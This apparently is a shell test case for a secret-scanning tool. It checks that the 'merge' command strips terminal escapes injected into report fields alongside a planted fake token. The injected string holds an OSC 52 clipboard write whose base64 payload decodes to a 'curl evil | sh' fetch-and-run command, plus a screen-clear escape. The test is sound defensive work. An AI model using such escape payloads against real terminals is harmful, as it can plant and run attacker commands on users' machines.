# attack: a shard report handed to merge carries a token in fields redaction skipped (rule id, fingerprint, commit) and terminal escapes (OSC 52 clipboard write, screen clear), with `--color always` (new to merge) where a writer might pass text through raw
# surface: merge
# expect: block
base_repo
token=$(fake_github_token)
plant "$token"
write config/app.env "GITHUB_TOKEN=$token"
commit leak
gate block history --shard 1/1 --format json --output "$HOSTILE_WORK/shard.json"
/usr/bin/python3 - "$HOSTILE_WORK/shard.json" "$token" <<'PY'
import json, sys
path, token = sys.argv[1:3]
doc = json.load(open(path))
evil = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[0m " + token
for f in doc["findings"]:
    for k in ("message", "path", "rule", "fingerprint", "commit"):
        if k in f:
            f[k] = evil
    if "location" in f and isinstance(f["location"], dict):
        f["location"]["path"] = evil
json.dump(doc, open(path, "w"))
PY
cd "$HOSTILE_WORK"
for format in text markdown github json sarif junit gitlab; do
  gate block merge shard.json --color always --format "$format" --output "merged.$format"
  keep_output "merged.$format"
  # Colour is SGR (ESC [ ... m) only: no OSC, no screen clear, no bell from the report.
  if grep -q $'\x1b\]\|\x1b\[2J\|\x07' "merged.$format"; then
    fail "merge --color always --format $format passed a terminal escape from the report through"
  fi
done
